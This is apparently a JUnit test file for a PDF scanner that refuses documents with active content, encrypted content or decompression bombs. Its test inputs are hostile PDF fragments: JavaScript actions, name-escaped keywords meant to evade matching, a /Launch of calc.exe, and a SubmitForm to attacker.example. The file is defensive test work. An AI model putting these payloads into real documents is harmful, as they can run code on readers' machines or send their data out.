package org.konsil.casefile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.Deflater;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PdfScanTests {

    private static final long MOST = 2_000_000;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                "<< /S/J#61vaScript /JS 5 0 R >>",
                "<< /Names << /EmbeddedFiles 4 0 R >> >>",
                "<< /Type /EmbeddedFile >>",
                "<< /S /Launch /F (calc.exe) >>",
                "<< /AcroForm << /XFA 3 0 R >> >>",
                "<< /S /#53ubmitForm /F (http://attacker.example/) >>",
                "<< /Subtype /RichMedia >>"
            })
    void aPdfThatDoesSomethingIsRefused(String object) {
        assertThat(PdfScan.objection(pdf(object), MOST)).hasValue("active");
        assertThat(PdfScan.objection(packed("1 0 " + object), MOST)).hasValue("active");
    }

    @Test
    void aScriptBehindALongBeginningIsFound() {
        assertThat(PdfScan.objection(packed("1 0 " + "7 ".repeat(300_000) + "<< /S /JavaScript >>"), MOST))
                .hasValue("active");
    }

    @Test
    void whatCannotBeSeenIsRefused() {
        assertThat(PdfScan.objection(pdf("trailer << /Encrypt 9 0 R >>"), MOST)).hasValue("locked");
        assertThat(PdfScan.objection(pdf("<< /Type /ObjStm /Filter [/ASCII85Decode /FlateDecode] >>"), MOST))
                .hasValue("active");
    }

    @Test
    void aDocumentThatUnpacksWithoutEndIsGivenUp() {
        assertThat(PdfScan.objection(packed("1 0 " + " ".repeat(50_000_000)), MOST))
                .hasValue("bomb");
    }

    @Test
    void paperIsTaken() {
        var picture = new byte[3_000_000];
        new Random(7).nextBytes(picture);
        var text = new String(picture, StandardCharsets.ISO_8859_1);
        assertThat(PdfScan.objection(pdf("<< /OpenAction [3 0 R /Fit] /EncryptMetadata false >>" + text), MOST))
                .isEmpty();
        assertThat(PdfScan.objection(packed("BT /F1 12 Tf (JavaScript is a language) Tj ET"), MOST))
                .isEmpty();
    }

    private static byte[] pdf(String object) {
        return ("%PDF-1.7\n1 0 obj\n" + object + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] packed(String content) {
        var deflater = new Deflater();
        deflater.setInput(content.getBytes(StandardCharsets.ISO_8859_1));
        deflater.finish();
        var out = new ByteArrayOutputStream();
        out.writeBytes("%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\r\n"
                .getBytes(StandardCharsets.ISO_8859_1));
        var window = new byte[8192];
        while (!deflater.finished()) {
            out.write(window, 0, deflater.deflate(window));
        }
        deflater.end();
        out.writeBytes("\nendstream endobj".getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }
}
